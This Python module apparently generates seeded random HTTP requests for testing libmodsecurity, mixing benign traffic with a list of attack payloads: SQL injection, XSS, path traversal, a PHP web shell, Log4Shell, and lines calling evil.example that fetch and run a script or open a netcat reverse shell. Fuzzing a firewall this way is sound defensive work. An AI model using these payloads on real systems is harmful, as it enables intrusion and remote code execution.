"""Requests made by dice: what browsers, programs and attackers send, mixed. Seeded, so repeatable.

`requests(seed, count)` gives `Message`s; `judged(oracle, message)` asks libmodsecurity about one.
"""

import json
import random
from collections.abc import Iterator
from urllib.parse import quote

from troth.engines.seclang import Message

WORDS = (
    "booking room table guest arrival family name number street message hello thanks please price"
    " Zürich café münchen select order update from where union table drop script alert img body"
    " document cat etc bin bash cmd powershell php python java exec eval system id uid admin root"
    " the and or not null true false 1 2 10 2026 0x41 3.14 -5 a b c x y z"
).split()
ATTACKS = (
    "1' or '1'='1",
    "1 union select 1,2,3 from users--",
    "admin'--",
    "'; drop table users; --",
    "1 and sleep(5)",
    "' or 1=1#",
    "1;exec xp_cmdshell 'dir'",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "\"><iframe src='javascript:alert(1)'>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/hosts",
    ";cat /etc/passwd",
    "|id",
    "`whoami`",
    "$(curl http://evil.example/x)",
    "& ping -n 10 127.0.0.1 &",
    "() { :;}; /bin/bash -c 'id'",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index",
    "http://evil.example/shell.txt?",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "{{7*7}}",
    "${7*7}",
    "*)(uid=*))(|(uid=*",
    '<!--#exec cmd="id"-->',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    "require('child_process').exec('id')",
    "a\r\nSet-Cookie: x=1",
    "HTTP/1.1 200 OK\r\nContent-Type: text/html",
    "%252e%252e%252fetc%252fpasswd",
    "%u003cscript%u003e",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "nc -e /bin/sh 10.0.0.1 4444",
    "wget http://evil.example/a.sh -O- | sh",
    "'+(select load_file('/etc/passwd'))+'",
    "1' waitfor delay '0:0:5'--",
    "sqlmap",
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
    "__proto__[x]",
    "$where: 'sleep(1000)'",
    "<style>@import'http://evil.example/x.css'</style>",
)
NAMES = "id q name email message page user[name] items[] file url redirect cmd x _ a.b".split()
PATHS = (
    "/ /index.html /login /api/v1/bookings /a/b/c.php /search /wp-admin/admin.php /static/x.css"
    " /.git/config /cgi-bin/test.cgi /backup.sql /%7euser/ /caf%C3%A9 /a%20b /x;jsessionid=1"
    " /etc/passwd /..%2f..%2fetc /index.bak /a//b/./c /phpmyadmin/ /robots.txt"
).split()
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32",
    "sqlmap/1.8",
    "Nikto/2.5",
    "",
)
METHODS = "GET GET GET GET POST POST POST PUT DELETE HEAD OPTIONS PATCH TRACE".split()
TYPES = (
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-8",
    "application/json",
    "application/json; charset=utf-8",
    "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
    "text/xml",
    "application/xml",
    "text/plain",
    "application/octet-stream",
)


def requests(seed: int, count: int, payloads: tuple[str, ...] = ()) -> Iterator[Message]:
    """That many messages; `payloads` are attacks (and harmless texts) beside our own."""
    rng = random.Random(seed)
    attacks = ATTACKS + payloads
    for _ in range(count):
        yield _request(rng, attacks)


def _value(rng: random.Random, attacks: tuple[str, ...]) -> str:
    dice = rng.random()
    if dice < 0.25:
        return rng.choice(attacks)
    if dice < 0.35:
        return " ".join(rng.choices(WORDS, k=3)) + rng.choice(attacks)
    if dice < 0.4:
        return "".join(chr(rng.choice((9, 10, *range(32, 127), 228))) for _ in range(12))
    return " ".join(rng.choices(WORDS, k=rng.randrange(1, 8)))


def _pairs(rng: random.Random, attacks: tuple[str, ...], most: int) -> list[tuple[str, str]]:
    return [
        (rng.choice(NAMES) if rng.random() < 0.95 else _value(rng, attacks), _value(rng, attacks))
        for _ in range(rng.randrange(most + 1))
    ]


def _form(pairs: list[tuple[str, str]]) -> str:
    return "&".join(f"{quote(name, safe='[]')}={quote(value, safe='')}" for name, value in pairs)


def _request(rng: random.Random, attacks: tuple[str, ...]) -> Message:
    method = rng.choice(METHODS)
    query = _form(_pairs(rng, attacks, 4))
    uri = rng.choice(PATHS) + (f"?{query}" if query else "")
    if rng.random() < 0.05:
        uri = "/" + quote(_value(rng, attacks), safe="/")
    headers = [("Host", rng.choice(("app.example", "app.example", "app.example:8443", "10.0.0.1")))]
    agent = rng.choice(AGENTS)
    if agent or rng.random() < 0.5:
        headers.append(("User-Agent", agent))
    if rng.random() < 0.9:
        headers.append(("Accept", rng.choice(("*/*", "text/html,application/xhtml+xml;q=0.9"))))
    if rng.random() < 0.4:
        cookies = [(f"c{n}", quote(_value(rng, attacks), safe="=/ ")) for n in range(3)]
        headers.append(("Cookie", "; ".join(f"{name}={value}" for name, value in cookies)))
    if rng.random() < 0.3:
        headers.append(("Referer", "https://app.example/" + quote(_value(rng, attacks))))
    if rng.random() < 0.1:
        text = _value(rng, attacks).replace("\r", " ").replace("\n", " ")
        headers.append(
            (rng.choice(("X-Custom", "X-Forwarded-For", "Range", "Accept-Charset")), text)
        )
    body = b""
    if method in {"POST", "PUT", "PATCH", "DELETE"} or rng.random() < 0.02:
        kind = rng.choice(TYPES)
        body = _body(rng, attacks, kind)
        if rng.random() < 0.98:
            headers.append(("Content-Type", kind))
        headers.append(("Content-Length", str(len(body))))
    return Message(
        method=method.encode(),
        uri=uri.encode("latin-1", "replace"),
        protocol=rng.choice((b"HTTP/1.1", b"HTTP/1.1", b"HTTP/2", b"HTTP/1.0")),
        headers=tuple((name.encode(), value.encode("utf-8")) for name, value in headers),
        body=body or None,
        client="203.0.113.7",
        port=4000,
        server="192.0.2.1",
        server_port=443,
    )


def _body(rng: random.Random, attacks: tuple[str, ...], kind: str) -> bytes:
    pairs = _pairs(rng, attacks, 6)
    if "json" in kind:
        nested = {"list": [value for _, value in pairs], "flag": True, "n": 3, "none": None}
        return json.dumps({**dict(pairs), "more": nested}, ensure_ascii=False).encode()
    if "multipart" in kind:
        return _multipart(pairs, kind.rpartition("=")[2], rng)
    if "xml" in kind:
        inner = "".join(f"<v a='{_text(name)}'>{_text(value)}</v>" for name, value in pairs)
        return f"<?xml version='1.0'?><r>{inner}</r>".encode()
    if "form" in kind:
        return _form(pairs).encode()
    return "\n".join(value for _, value in pairs).encode()


def _text(value: str) -> str:
    kept = "".join(c for c in value if c >= " " or c in "\t\n")
    return kept.replace("&", "&amp;").replace("<", "&lt;").replace("'", "&apos;")


def _multipart(pairs: list[tuple[str, str]], boundary: str, rng: random.Random) -> bytes:
    parts = []
    for name, value in pairs:
        clean = name.replace('"', "").replace("\r", "").replace("\n", "").replace("'", "")
        extra = '; filename="a.txt"\r\nContent-Type: text/plain' if rng.random() < 0.2 else ""
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{clean}"{extra}\r\n\r\n'
            f"{value}\r\n"
        )
    return ("".join(parts) + f"--{boundary}--\r\n").encode()
